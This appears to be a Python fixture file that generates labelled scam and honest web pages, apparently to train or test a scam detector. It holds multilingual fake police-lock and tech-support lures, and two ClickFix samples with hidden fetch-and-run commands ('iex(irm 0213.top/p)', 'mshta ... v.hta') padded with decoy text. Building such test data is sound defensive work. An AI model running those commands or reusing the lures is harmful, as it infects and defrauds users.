# Part H (written before reading any branch, after Part 1): more pages for the families this session's helpers work on.
from gen_a import P
# police locks
P('fi_s_police', 'scam', 'https://poliisi-esto-0201.com/', 'police-lock', 'fi', 'Poliisi - tietokone lukittu',
  "Poliisi on lukinnut tietokoneesi laittoman sisällön katselun vuoksi.\nAvaa lukitus maksamalla 300 euron sakko 24 tunnin kuluessa. Soita tutkijalle: 0800 555 020.", None, 'fullscreen')
P('he_s_police', 'scam', 'https://mishtara-knas-0202.com/', 'police-lock', 'he', 'משטרת ישראל - היחידה הארצית לסייבר',
  "המחשב שלך ננעל על ידי משטרת ישראל בשל צפייה בתוכן בלתי חוקי.\nכדי לשחרר את הנעילה יש לשלם קנס של 1,500 ש״ח תוך 24 שעות. התקשר לחוקר: 03-555-0142.", None, 'fullscreen')
P('el_s_police', 'scam', 'https://astynomia-prostimo-0203.com/', 'police-lock', 'el', 'Ελληνική Αστυνομία',
  "Ο υπολογιστής σας κλειδώθηκε από την Ελληνική Αστυνομία λόγω παράνομου περιεχομένου.\nΓια να ξεκλειδώσει πληρώστε πρόστιμο 400 € εντός 24 ωρών. Καλέστε τον αστυνομικό: 800 555 0144.", None, 'fullscreen')
P('ms_s_police', 'scam', 'https://pdrm-saman-0204.com/', 'police-lock', 'ms', 'Polis Diraja Malaysia',
  "Komputer anda telah dikunci oleh PDRM kerana melayari kandungan haram.\nUntuk membuka kunci, bayar saman RM 2,000 dalam masa 24 jam. Hubungi pegawai: 1800 55 0145.", None, 'fullscreen')
P('sv_s_police', 'scam', 'https://polisen-las-0205.com/', 'police-lock', 'sv', 'Polisen',
  "Din dator har låsts av Polisen på grund av olagligt innehåll.\nFör att låsa upp datorn måste du betala böter på 3 000 kr inom 24 timmar. Ring handläggaren: 020-555 01 46.", None, 'fullscreen')
P('ja_s_police2', 'scam', 'https://npa-lock-0206.com/', 'police-lock', 'ja', 'お使いのパソコンについて',
  "お使いのパソコンについて、警察より通知があります。違法な閲覧が確認されたため、このパソコンはロックされています。\n罰金 20,000円 を本日中にお支払いください。お問い合わせ：050-5550-0147", None, 'fullscreen')
# static brand scams th hi ko
P('th_s_bank', 'scam', 'https://kbank-security-0207.com/', 'callus-bank', 'th', 'บัญชีของคุณถูกระงับ',
  "บัญชีของคุณถูกระงับเนื่องจากมีการทำรายการที่น่าสงสัย 45,000 บาท\nเพื่อยกเลิกรายการ โปรดโทรหาฝ่ายความปลอดภัยทันที: 1800 555 016")
P('ko_s_bank', 'scam', 'https://kb-bank-boan-0208.com/', 'callus-bank', 'ko', '계좌가 정지되었습니다',
  "의심스러운 거래로 인해 고객님의 계좌가 정지되었습니다. 1,200,000원 이체가 대기 중입니다.\n취소하려면 지금 즉시 보안팀에 전화하세요: 080-555-0148")
P('hi_s_amazon', 'scam', 'https://amazon-order-radd-0209.in.net/', 'callus-amazon', 'hi', 'ऑर्डर की पुष्टि',
  "आपका ऑर्डर #5501 iPhone 15 Pro (₹1,34,900) दे दिया गया है।\nयदि आपने यह ऑर्डर नहीं दिया है, तो रद्द करने के लिए तुरंत Amazon ग्राहक सेवा को कॉल करें: 1800 555 0149")
P('ko_s_apple', 'scam', 'https://apple-jamgeum-0210.com/', 'callus-apple', 'ko', 'Apple 보안 경고',
  "고객님의 iPhone이 보안상의 이유로 잠겼습니다. Apple ID가 해외에서 사용되었습니다.\n잠금을 해제하려면 지금 Apple 지원센터에 전화하세요: 080-555-0150")
# debt lures by shape
P('en_s_debt_shape', 'scam', 'https://collections-notice-0211.com/', 'debt-arrest', 'en', 'Notice of Legal Action',
  "Case #5501-CR. You are being served. A complaint has been filed against you for an unpaid debt of $2,412.\nIf we do not hear from you today, the sheriff's office will be notified to take you into custody.\nCall the processing department at 1-555-010-0151 to resolve this matter.")
P('de_s_debt_shape', 'scam', 'https://forderung-klage-0212.de.com/', 'debt-arrest', 'de', 'Ankündigung der Zwangsvollstreckung',
  "Aktenzeichen 5501. Gegen Sie liegt eine offene Forderung von 1.870,00 EUR vor.\nOhne Ihren Rückruf heute wird die Polizei mit Ihrer Festnahme beauftragt. Rufen Sie die Abteilung Vollstreckung an: 0800 555 0153.")
# honest: MDM/organisation locks, IPTV providers, exams, Kartensperre
P('de_h_mdm', 'honest', 'https://geraet.it.landkreis-example.de/gesperrt', 'mdm-lock', 'de', 'Dieses Gerät ist gesperrt',
  "Dieses Gerät wurde von der IT des Landkreises gesperrt, weil es als verloren gemeldet wurde.\nWenn Sie es gefunden haben, rufen Sie bitte 05121 555 0142 an. Geräte-ID 44A1.", None, 'fullscreen')
P('fr_h_mdm', 'honest', 'https://mdm.groupe-example.fr/verrouille', 'mdm-lock', 'fr', 'Cet appareil est verrouillé',
  "Cet appareil a été verrouillé par le service informatique du Groupe, car il a été déclaré perdu.\nSi vous l'avez trouvé, appelez le 01 55 50 01 52. Identifiant 44A1.", None, 'fullscreen')
P('es_h_mdm', 'honest', 'https://mdm.empresa-example.es/bloqueado', 'mdm-lock', 'es', 'Este dispositivo está bloqueado',
  "Este dispositivo ha sido bloqueado por el departamento de TI porque se notificó como perdido.\nSi lo ha encontrado, llame al 913 555 021. ID 44A1.", None, 'fullscreen')
P('en_h_iptv_real', 'honest', 'https://www.sling.com/activate', 'iptv-honest', 'en', 'Activate Sling TV',
  "Activate your device: enter the code shown on your TV.\nDevice not activated? Check that your subscription is active in My Account. Need help? Call 1-555-010-0153.")
P('de_h_iptv', 'honest', 'https://www.waipu.tv/aktivieren', 'iptv-honest', 'de', 'Gerät aktivieren',
  "Geben Sie den Code ein, der auf Ihrem Fernseher angezeigt wird. Die Aktivierung ist fehlgeschlagen? Prüfen Sie Ihr Abo.\nHilfe: 0800 555 0154 (Mo-Fr 9-18 Uhr).")
P('fr_h_iptv', 'honest', 'https://www.canalplus.com/activation', 'iptv-honest', 'fr', 'Activer votre appareil',
  "Saisissez le code affiché sur votre téléviseur. L'activation a échoué ? Vérifiez votre abonnement.\nBesoin d'aide : 09 55 50 01 55.")
P('it_h_exam2', 'honest', 'https://esami.polimi.it/sessione/5502', 'exam-fullscreen', 'it', 'Esame a distanza',
  "Lo schermo è bloccato per la durata dell'esame. Non spegnere il computer.\nPer problemi tecnici chiama il supporto al 02 555 0156.", None, 'fullscreen')
P('pt_h_exam', 'honest', 'https://exames.ulisboa.pt/sessao/5501', 'exam-fullscreen', 'pt', 'Exame online',
  "O seu ecrã está bloqueado durante o exame. Não desligue o computador.\nProblemas técnicos: ligue para 21 555 0157.", None, 'fullscreen')
P('nl_h_exam', 'honest', 'https://toets.uva.nl/sessie/5501', 'exam-fullscreen', 'nl', 'Online tentamen',
  "Uw scherm is vergrendeld tijdens het tentamen. Zet uw computer niet uit.\nTechnische problemen? Bel 020 555 0158.", None, 'fullscreen')
P('de_h_kartensperre', 'honest', 'https://www.dkb.de/kartensperre', 'bank-cardblock', 'de', 'Kartensperre',
  "Ihre Karte ist gesperrt? Wir haben sie aus Sicherheitsgründen gesperrt, weil wir verdächtige Umsätze festgestellt haben.\nRufen Sie uns an unter 030 555 0159, damit wir die Sperre aufheben oder eine neue Karte schicken.")
P('de_h_kartensperre2', 'honest', 'https://www.ing.de/hilfe/karte-gesperrt/', 'bank-cardblock', 'de', 'Warum ist meine Karte gesperrt?',
  "Nach dreimaliger falscher PIN-Eingabe wird Ihre Karte automatisch gesperrt. Die Sperre können Sie in der App aufheben.\nFragen? Kundendialog: 069 555 0160.")
# ClickFix decoy filler: benign-looking filler words before and after the payload
P('en_s_cf_decoy', 'scam', 'https://captcha-0213.top/', 'clickfix', 'en', 'Verify you are human',
  "I'm not a robot\nPress Win+R, then Ctrl+V, then Enter.",
  ("start explorer download cmd " * 300) + "powershell -w h -c \"iex(irm 0213.top/p)\"" + (" start explorer download" * 300))
P('en_s_cf_decoy2', 'scam', 'https://captcha-0214.top/', 'clickfix', 'en', 'Verify you are human',
  "I'm not a robot\nPress Win+R, then Ctrl+V, then Enter.",
  ("# Verification ID 5501 - I am not a robot - reCAPTCHA. " * 120) + "mshta https://0214.top/v.hta " + ("# Verification ID 5501 - I am not a robot. " * 120))
P('en_h_cf_long', 'honest', 'https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows', 'devdocs-copy', 'en', 'Installing PowerShell on Windows',
  "Install PowerShell using WinGet (recommended). Copy the command and run it in a terminal:\nwinget install --id Microsoft.PowerShell --source winget\nCopy",
  "winget search Microsoft.PowerShell\n" + ("# " + "Name Id Version Source ----- PowerShell Microsoft.PowerShell 7.5 winget\n") * 60 + "winget install --id Microsoft.PowerShell --source winget")
